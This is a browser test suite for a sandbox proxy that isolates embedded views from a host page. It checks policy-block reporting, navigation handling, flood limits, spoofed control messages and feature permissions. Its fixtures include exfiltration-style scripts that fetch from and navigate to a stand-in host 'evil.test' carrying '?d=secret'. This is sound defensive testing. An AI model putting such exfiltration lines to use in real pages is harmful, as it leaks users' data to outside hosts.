// The proxy page between a host and a view, in a real Chromium: what it reports about the view, which messages it answers itself and never
// relays, and that it ignores other windows.
import { sandboxLabel } from '@vitrine/protocol/sandbox';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type HostPages, openHostPages } from '../../../../test/support/browser/host-page.ts';
import type { Channel } from '../bridge/channel.ts';
import type { openSandbox, Sandbox, SandboxOptions } from './sandbox.ts';

interface Kit {
  openSandbox: typeof openSandbox;
  sandbox: Sandbox;
  channel: Channel;
  received: { method?: string; params?: Record<string, unknown> }[];
  blocked: { directive: string; target: string; count: number }[];
  navigated: number;
  dropped: number;
}

let pages: HostPages;
beforeAll(async () => {
  pages = await openHostPages({
    source: `import { openSandbox } from '../host/src/sandbox/sandbox.ts'; window.openSandbox = openSandbox;`,
  });
});
afterAll(() => pages?.close());

/** Shows a document in a sandbox; what its view says is in `received`. `narrow`: without a width at first, with this one right after. */
async function show(
  html: string,
  { narrow, ...options }: Partial<Omit<SandboxOptions, 'template' | 'url' | 'development'>> & { narrow?: number } = {},
) {
  const { page, problems } = await pages.open();
  await page.evaluate(
    async ({ html, template, options, narrow }) => {
      const w = window as unknown as Kit;
      Object.assign(w, { received: [], blocked: [], navigated: 0, dropped: 0 });
      w.sandbox = w.openSandbox(
        document.querySelector('#root') as HTMLElement,
        { template, server: 'test', csp: undefined, timeoutMs: 10_000, ...options },
        {
          onLoaded() {},
          onNavigated: () => w.navigated++,
          onFlooding() {},
          onDropped: count => {
            w.dropped = count;
          },
          onBlocked: blocked => w.blocked.push(blocked),
        },
      );
      const { style } = w.sandbox.frame;
      if (narrow !== undefined) style.width = '0';
      await w.sandbox.ready;
      w.channel = w.sandbox.deliver({ html });
      w.channel.onmessage = message => w.received.push(message as Kit['received'][number]);
      if (narrow === undefined) return;
      // Two frames later: by then a view that does not wait has begun. One that waits does so for a short time.
      for (let frames = 0; frames < 2; frames++) await new Promise(requestAnimationFrame);
      style.width = `${narrow}px`;
    },
    { html, template: pages.template, options, narrow },
  );
  const until = (expression: (kit: Kit) => unknown) => page.waitForFunction(`(${expression.toString()})(window)`);
  const read = <T>(expression: (kit: Kit) => T): Promise<T> => page.evaluate(`(${expression.toString()})(window)`);
  return { page, problems, until, read };
}

/** A script that says one message with the value of an expression. */
const say = (expression: string) =>
  `<script type="module">parent.postMessage({ method: 'said', params: { value: ${expression} } }, '*')</script>`;

describe('a request that the policy blocks', () => {
  it('is reported with its directive and target, also in documents that scripts write', async () => {
    const { until, read, page } = await show(
      `<img src="https://evil.test/a.png"><script>try { eval('1') } catch {}; fetch('https://evil.test/b')</script>`,
    );
    await until(({ blocked }) => blocked.length >= 3);
    const blocked = await read(kit => kit.blocked.map(({ directive, target }) => `${directive} ${target}`).sort());
    expect(blocked).toEqual(['connect-src https://evil.test/b', 'img-src https://evil.test/a.png', 'script-src eval']);
    await page.close();
  });

  it.each(['go()', 'setTimeout(go)', 'onload = () => setTimeout(go)'])(
    'is reported when a view navigates away, which closes it: %s',
    async when => {
      const { until, read, page } = await show(
        `<script>const go = () => { location.href = 'https://evil.test/?d=secret'; }; ${when}</script>`,
      );
      await until(({ navigated }) => navigated > 0);
      const { blocked, navigated } = await read(({ blocked, navigated }) => ({ blocked, navigated }));
      expect(blocked).toEqual([
        { directive: 'frame-src', target: expect.stringContaining('https://evil.test'), count: 1 },
      ]);
      expect(navigated).toBe(1);
      await page.close();
    },
  );

  it('is reported a limited number of times: of 20000 reports few reach the host, truncated, and the view’s own messages pass', async () => {
    const { until, read, page } = await show(
      `<script>for (let n = 0; n < 20000; n++) parent.postMessage({ method: 'ui/notifications/sandbox-blocked', params: { directive: 'x'.repeat(999), target: n } }, '*')</script>${say('1')}`,
    );
    await until(({ received }) => received.length === 1);
    const blocked = await read(kit => kit.blocked);
    expect(blocked.length).toBeLessThan(50);
    expect(blocked.at(-1)).toEqual({ directive: 'x'.repeat(200), target: '', count: 16_384 });
    await page.close();
  });
});

describe('a view begins with the size of its frame', () => {
  const WIDTHS = `<script>const first = innerWidth</script>${say('first')}`;

  it('also when the size is known only after the document', async () => {
    const { page, until, read } = await show(WIDTHS, { narrow: 300 });
    await until(({ received }) => received.length === 1);
    expect(await read(({ received }) => received[0])).toMatchObject({ params: { value: 300 } });
    await page.close();
  });

  it('and without one when it is not displayed', async () => {
    const { page, until, read } = await show(WIDTHS, { narrow: 0 });
    await until(({ received }) => received.length === 1);
    expect(await read(({ received }) => received[0])).toMatchObject({ params: { value: 0 } });
    await page.close();
  });
});

it('a view receives messages of its host, itself and its own frames, and of no other window', async () => {
  const { page, until, read } = await show(`<script>
    const received = [];
    addEventListener('message', ({ data }) => {
      received.push(data.said);
      if (data.said === 'host') parent.postMessage({ method: 'said', params: { received } }, '*');
      if (data.said === 'nested') parent.postMessage({ method: 'ready' }, '*');
    });
    postMessage({ said: 'itself' }, '*');
    dispatchEvent(new MessageEvent('message', { data: { said: 'made up' } }));
  </script><iframe srcdoc="<script>parent.postMessage({ said: 'nested' }, '*')</script>"></iframe>`);
  await until(({ received }) => received.length === 1);
  await page.evaluate(() => {
    const view = frames[0]?.frames[0];
    for (const sender of ['other window', 'host']) view?.postMessage({ said: sender }, '*');
    (window as unknown as Kit).channel.send({ said: 'host' });
  });
  await until(({ received }) => received.length === 2);
  expect(await read(({ received }) => received[1]?.params?.received)).toEqual(['made up', 'itself', 'nested', 'host']);
  await page.close();
});

describe('a document other than the delivered one', () => {
  it.each([
    ['location.reload()', 'go()'],
    [`location.href = 'about:srcdoc'`, 'go()'],
    ['location.reload()', 'onload = () => setTimeout(go)'],
    [`location.href = 'about:srcdoc'`, 'onload = () => setTimeout(go)'],
    [`location.href = 'about:blank'`, 'onload = () => setTimeout(go)'],
  ])('closes the view: %s, at %s', async (how, when) => {
    const { until, read, page } = await show(`<script>const go = () => { ${how}; }; ${when}</script>`);
    await until(({ navigated }) => navigated > 0);
    expect(await read(({ navigated }) => navigated)).toBe(1);
    await page.close();
  });
});

describe('requests that are dropped', () => {
  it('are answered, so that a view need not wait for a timeout; a flood gets as few answers as it may send messages', async () => {
    const { until, read, page } = await show(
      `<script>
        const answers = [];
        addEventListener('message', ({ data }) => answers.push(data));
        for (let id = 0; id < 2000; id++) parent.postMessage({ jsonrpc: '2.0', id, method: 'tools/call', params: {} }, '*');
        // When the bucket has refilled a little, one message reports what arrived.
        const tell = setInterval(() => parent.postMessage({ method: 'said', params: { answers } }, '*'), 300);
      </script>`,
    );
    // At first a busy view has received little.
    await until(({ received }) => received.some(({ params }) => (params?.answers as unknown[])?.length >= 200));
    const answers = await read(
      kit => kit.received.at(-1)?.params?.answers as { id: number; error: { code: number } }[],
    );
    const passed = await read(kit => kit.received.filter(({ method }) => method === 'tools/call').length);
    expect(passed).toBeGreaterThanOrEqual(200);
    expect(answers.length).toBeLessThan(1000);
    expect(answers.every(({ error }) => error.code === -32000)).toBe(true);
    await page.close();
  });

  it('are answered when they are too large', async () => {
    const { until, read, page } = await show(
      `<script>
        addEventListener('message', ({ data }) => parent.postMessage({ method: 'said', params: data }, '*'));
        parent.postMessage({ jsonrpc: '2.0', id: 'big', method: 'ui/message', params: { text: 'x'.repeat(2e6) } }, '*');
      </script>`,
    );
    await until(({ received }) => received.length === 1);
    expect(await read(kit => [kit.received[0]?.params, kit.dropped])).toEqual([
      { jsonrpc: '2.0', id: 'big', error: { code: -32000, message: 'The sandbox dropped this request: too large.' } },
      1,
    ]);
    await page.close();
  });
});

describe('sandbox-* messages', () => {
  it('of a view are not relayed and have no effect', async () => {
    const { until, read, page } = await show(
      `<script>
        for (const name of ['proxy-ready', 'resource-ready', 'loaded', 'navigated', 'dropped', 'anything'])
          for (const to of [parent, top])
            to.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-' + name, params: { html: '<p>other</p>', count: 7 } }, '*');
      </script>${say('1')}`,
    );
    await until(({ received }) => received.length === 1);
    // `dropped` is the proxy's own message, sent for what was dropped: the six of the parent, reported at 1, 2 and 4.
    expect(await read(kit => [kit.received.map(({ method }) => method), kit.navigated, kit.dropped])).toEqual([
      ['said'],
      0,
      4,
    ]);
    await page.close();
  });

  it('of the application do not reach the view', async () => {
    const { until, read, page } = await show(
      `<script>
        addEventListener('message', ({ data }) => parent.postMessage({ method: 'received', params: { of: data.method } }, '*'));
      </script>${say('1')}`,
    );
    await until(({ received }) => received.length === 1);
    await page.evaluate(() => {
      const { channel } = window as unknown as Kit;
      channel.send({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: { html: '' } });
      channel.send({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-anything' });
      channel.send({ jsonrpc: '2.0', method: 'ui/notifications/tool-result' });
    });
    await until(({ received }) => received.length === 2);
    expect(await read(kit => kit.received[1]?.params)).toEqual({ of: 'ui/notifications/tool-result' });
    await page.close();
  });
});

describe('features', () => {
  it.each([
    [['clipboard-write'], ['clipboard-write']],
    [[], []],
  ])('granted %j: the view may use %j', async (features, allowed) => {
    const names = `['clipboard-write', 'camera', 'geolocation'].filter(name => document.featurePolicy.allowsFeature(name))`;
    const { until, read, page } = await show(say(names), { features });
    await until(({ received }) => received.length === 1);
    expect(await read(kit => kit.received[0]?.params?.value)).toEqual(allowed);
    await page.close();
  });
});

describe('the proxy page in a tab', () => {
  it('does nothing when it is not in a frame, whatever messages it receives', async () => {
    const { page } = await pages.open();
    const label = await sandboxLabel({ hostOrigin: pages.origin, server: 'test' });
    const address = `${pages.template.replace('{label}', label)}/?host=${encodeURIComponent(pages.origin)}`;
    const message = { method: 'ui/notifications/sandbox-resource-ready', params: { html: '<p>shown</p>' } };
    const nextTab = page.context().waitForEvent('page');
    await page.evaluate(url => {
      (window as unknown as { other: Window | null }).other = window.open(url);
    }, address);
    const visited = await nextTab;
    await visited.waitForLoadState();
    await page.evaluate(sent => (window as unknown as { other: Window | null }).other?.postMessage(sent, '*'), message);
    // Its own window may say what it likes, too.
    await visited.evaluate(sent => {
      postMessage(sent, '*');
      return new Promise(resolve => setTimeout(resolve));
    }, message);
    expect(visited.url()).toBe(address);
    await expect.poll(() => visited.locator('iframe').count()).toBe(0);
    await expect.poll(() => visited.locator('body').textContent()).not.toContain('shown');
    await visited.close();
    await page.close();
  });
});
